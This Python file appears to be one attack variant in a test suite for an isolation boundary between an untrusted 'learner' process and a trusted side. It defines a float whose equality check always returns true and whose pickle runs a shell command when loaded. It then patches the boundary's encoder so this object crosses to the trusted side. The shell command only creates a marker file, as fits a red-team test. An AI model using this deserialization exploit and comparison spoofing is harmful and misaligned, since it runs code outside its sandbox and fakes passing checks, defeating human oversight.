# Variant: return crafted objects to the trusted side: a float whose __eq__ is always true and
# whose pickle runs a shell command when loaded. The learner's process patches the boundary's
# own encoder so that the raw object, not a plain number, is what gets sent.
import os as _os


class Evil(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__

    def __reduce__(self):
        return (_os.system, ("touch ATTACK_MARKER",))


import sys as _sys

# The worker runs as `python -m commtax.boundary.worker` (its module is __main__); the encoder is
# commtax.boundary.codec.lower.
for _name in ("commtax.boundary", "commtax.boundary.codec", "commtax.boundary.worker", "__main__"):
    try:
        __import__(_name)
        for _attribute in ("lower", "_lower"):
            if hasattr(_sys.modules[_name], _attribute):
                setattr(_sys.modules[_name], _attribute, lambda value, depth=0: value)
    except Exception:
        pass
try:
    import commtax.boundary as _boundary
except Exception:
    pass
try:  # in a rank: what the launcher reads back
    import pickle as _pickle

    _boundary.dumps = lambda value, module=None: _pickle.dumps(Evil(1.0))
except Exception:
    pass
